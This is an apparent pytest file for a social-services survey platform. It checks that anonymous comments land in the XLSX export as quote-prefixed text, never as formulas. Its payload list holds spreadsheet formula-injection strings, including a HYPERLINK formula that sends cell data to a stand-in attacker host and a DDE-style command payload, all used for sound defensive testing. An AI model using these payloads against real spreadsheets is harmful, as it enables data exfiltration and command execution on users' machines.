"""Formula injection: people's text in the platform's workbooks is text, never a live formula (issue 19, item 2)."""
import re
import zipfile
from io import BytesIO
from pathlib import Path

from openpyxl import load_workbook

from dinsos_uji.bantuan import buat_staf, masuk, token_csrf

PPKS = "penanganan-ppks-terlantar"
JAHAT = [
    '=HYPERLINK("http://penyerang.example/?d="&A1,"Klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def _kirim_komentar(app, komentar):
    klien = app.test_client()
    html = klien.get(f"/t/kota-metro/survei/{PPKS}").get_data(as_text=True)
    nilai = {f"u{i}": "4" for i in range(1, 10)}
    r = klien.post(f"/t/kota-metro/survei/{PPKS}", data={"csrf_token": token_csrf(html), "token": "", **nilai, "komentar": komentar})
    assert r.status_code == 201, komentar


def test_anonymous_comment_is_text_in_the_ikm_export(app, kantor_seed):
    for komentar in JAHAT:
        _kirim_komentar(app, komentar)
    buat_staf(kantor_seed["kota-metro"], "kepala_bidang", "kabid@metro.uji")
    staf = app.test_client()
    masuk(staf, "kota-metro", "kabid@metro.uji")
    r = staf.get("/t/kota-metro/ikm/rekap.xlsx")
    assert r.status_code == 200

    with zipfile.ZipFile(BytesIO(r.data)) as z:
        lembar = {n: z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")}
    # No cell of any sheet is a formula.
    assert not any(re.search(r"<f[ >]", isi) for isi in lembar.values())

    ws = load_workbook(BytesIO(r.data))["Responden"]
    kolom = [c.value for c in ws[1]].index("Komentar") + 1
    sel = [ws.cell(row=b, column=kolom) for b in range(2, ws.max_row + 1)]
    # The text is kept exactly as the respondent wrote it (modulo the form's own trimming), stored as a string
    # and marked with Excel's quote prefix so editing the cell keeps it text.
    assert sorted(c.value for c in sel) == sorted(k.strip() for k in JAHAT)
    for c in sel:
        assert c.data_type == "s" and c.quotePrefix, c.value


def test_every_workbook_is_written_through_the_one_helper():
    """A new export cannot forget: modules building workbooks append rows only through ``tambah_baris``."""
    akar = Path(__file__).resolve().parents[2] / "platform" / "dinsos"
    pembuat = [p for p in akar.rglob("*.py") if "openpyxl" in p.read_text() and p.name != "lembar.py"]
    assert pembuat, "the IKM export builds a workbook"
    for p in pembuat:
        isi = p.read_text()
        assert "tambah_baris" in isi, p
        assert ".append(" not in isi and ".value =" not in isi, f"{p}: cells written past dinsos.core.lembar"
